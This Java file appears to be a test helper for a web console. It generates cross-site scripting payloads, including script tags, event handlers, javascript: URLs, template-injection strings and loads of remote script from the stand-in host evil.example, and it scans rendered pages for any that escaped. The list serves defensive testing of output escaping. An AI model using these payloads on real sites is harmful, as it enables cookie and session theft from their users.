package org.pokana.console;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/** What somebody might write as their name so that it runs in the browser of whoever reads it. */
final class Payloads {

    /** The parts of our own pages. */
    private static final Set<String> OURS = Set.of(
            "html",
            "head",
            "meta",
            "title",
            "link",
            "script",
            "body",
            "a",
            "header",
            "footer",
            "img",
            "span",
            "nav",
            "ul",
            "li",
            "svg",
            "use",
            "div",
            "b",
            "small",
            "form",
            "input",
            "button",
            "main",
            "h1",
            "h2",
            "h3",
            "p",
            "section",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "dl",
            "dt",
            "dd",
            "label",
            "meter",
            "figure",
            "figcaption",
            "caption",
            "rect",
            "polygon",
            "polyline",
            "line",
            "select",
            "option",
            "textarea",
            "fieldset",
            "legend",
            "ol",
            "code",
            "path",
            "mark",
            "details",
            "summary",
            "optgroup");

    private static final Pattern TAG = Pattern.compile("<([a-zA-Z!?/][^\\s/>]*)((?:\"[^\"]*\"|'[^']*'|[^'\">])*)>?");
    private static final Pattern ATTRIBUTE =
            Pattern.compile("([^\\s\"'=/]+)(?:=(?:\"([^\"]*)\"|'([^']*)'|([^\\s\"']+)))?");

    private static final List<String> ACTS = List.of(
            "alert(1)",
            "alert`1`",
            "confirm(document.cookie)",
            "import('//evil.example/x')",
            "top[/al/.source+/ert/.source](1)");

    private static final List<String> FRAMES = List.of(
            "<script>%s</script>",
            "<ScRiPt>%s</sCrIpT>",
            "<script src=//evil.example/x.js>%s</script>",
            "</script><script>%s</script>",
            "<img src=x onerror=%s>",
            "<img src=x onerror=\"%s\">",
            "<IMG SRC=x oNeRrOr='%s'>",
            "<svg onload=%s>",
            "<svg/onload=%s>",
            "<svg><script>%s</script></svg>",
            "<svg><animate onbegin=%s attributeName=x dur=1s>",
            "<body onload=%s>",
            "<iframe src=javascript:%s>",
            "<iframe srcdoc='<script>%s</script>'>",
            "<object data=javascript:%s>",
            "<embed src=javascript:%s>",
            "<a href=javascript:%s>x</a>",
            "<a href=\"jav&#x09;ascript:%s\">x</a>",
            "<form action=javascript:%s><button>x</button></form>",
            "<button formaction=javascript:%s form=f>x</button>",
            "<details open ontoggle=%s>",
            "<video><source onerror=%s></video>",
            "<audio src=x onerror=%s>",
            "<marquee onstart=%s>",
            "<input autofocus onfocus=%s>",
            "<select autofocus onfocus=%s>",
            "<textarea autofocus onfocus=%s>",
            "<math><mi xlink:href=javascript:%s>x</mi></math>",
            "<template><script>%s</script></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
            "<style>@import '//evil.example/%s'</style>",
            "<link rel=stylesheet href=//evil.example/%s>",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>",
            "<base href=//evil.example/%s>",
            "<x hx-on:load=%s>",
            "<div hx-get=//evil.example/%s hx-trigger=load>",
            "<div data-hx-on--load=%s>",
            "\"><script>%s</script>",
            "'><script>%s</script>",
            "\" onfocus=%s autofocus x=\"",
            "' onfocus=%s autofocus x='",
            "\" onmouseover=\"%s",
            "--><script>%s</script>",
            "]]><script>%s</script>",
            "</title><script>%s</script>",
            "</textarea><script>%s</script>",
            "</option></select><img src=x onerror=%s>",
            "<!--><img src=x onerror=%s>-->",
            "<p style=background:url(javascript:%s)>",
            "javascript:%s",
            "data:text/html,<script>%s</script>",
            "${%s}",
            "*{%s}",
            "[[${%s}]]",
            "[(${%s})]",
            "__${%s}__::.x",
            "{{%s}}",
            "<th:block th:utext=\"%s\"></th:block>",
            "&lt;script&gt;%s&lt;/script&gt;",
            "\u202e<script>%s</script>",
            "<script\u0000>%s</script>",
            "\uff1cscript\uff1e%s\uff1c/script\uff1e");

    private Payloads() {}

    static List<String> all() {
        var all = new LinkedHashSet<String>();
        FRAMES.forEach(frame -> ACTS.forEach(act -> all.add(frame.replace("%s", act))));
        return List.copyOf(all);
    }

    /** All of them, a few in each: one that got out would be seen beside the others, too. */
    static List<String> some() {
        return FRAMES.stream()
                .map(frame -> ACTS.stream().map(act -> frame.replace("%s", act)).collect(Collectors.joining(" ")))
                .toList();
    }

    /** What is on a page that is none of ours or does something: tags, acts in tags, addresses that run. */
    static List<String> alive(String page) {
        var found = new ArrayList<String>();
        TAG.matcher(page).results().forEach(tag -> {
            var name = tag.group(1).toLowerCase(java.util.Locale.ROOT).replaceFirst("^/", "");
            if (!OURS.contains(name) && !name.equals("!doctype")) {
                found.add(tag.group());
            }
            if (name.equals("script")
                    && !tag.group(1).startsWith("/")
                    && !tag.group(2).contains("src=\"/")) {
                found.add(tag.group());
            }
            ATTRIBUTE.matcher(tag.group(2)).results().forEach(attribute -> {
                var key = attribute.group(1).toLowerCase(java.util.Locale.ROOT);
                var value = Stream.of(attribute.group(2), attribute.group(3), attribute.group(4))
                        .filter(Objects::nonNull)
                        .collect(Collectors.joining());
                if (key.startsWith("on")
                        || key.matches("(data-)?hx-on.*")
                        || key.startsWith("th:")
                        || key.equals("style")
                        || key.equals("http-equiv")
                        || key.matches("(data-)?hx-.*") && value.startsWith("//")
                        || key.matches("href|src|action|formaction|data|xlink:href")
                                && value.matches("(?is)\\s*(jav.*|data:.*|//.*)")) {
                    found.add(tag.group());
                }
            });
        });
        return found;
    }
}
